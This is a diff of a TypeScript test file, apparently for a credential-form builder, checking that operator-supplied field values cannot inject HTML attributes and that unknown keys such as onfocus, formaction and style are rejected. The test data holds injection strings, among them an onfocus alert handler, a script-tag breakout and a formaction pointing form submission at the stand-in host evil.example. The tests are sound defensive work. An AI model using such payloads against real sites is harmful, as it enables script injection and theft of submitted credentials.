@@ -288,10 +288,14 @@ describe('what an operator writes', () => {
     value: '" autofocus onfocus="alert(1)',
     type: 'text" formaction="//evil.example' as 'text',
     autocomplete: '"><script>',
-    onfocus: 'alert(1)',
-    formaction: '//evil.example',
-    style: 'x',
-  } as CredentialInput
+  } satisfies CredentialInput
+
+  it.each(['onfocus', 'formaction', 'style'])('attack #283: has no attribute %s, and says so', (name) => {
+    const field = { label: 'Name', [name]: 'alert(1)' } as CredentialInput
+    expect(() => site(withProvider({ credentials: { username: field } }))).toThrow(
+      `credentials.username.${name}: is unknown, so nothing reads it.`,
+    )
+  })
 
   it('attack #283: is shown as text, in known attributes only', async () => {
     const markup = await page(
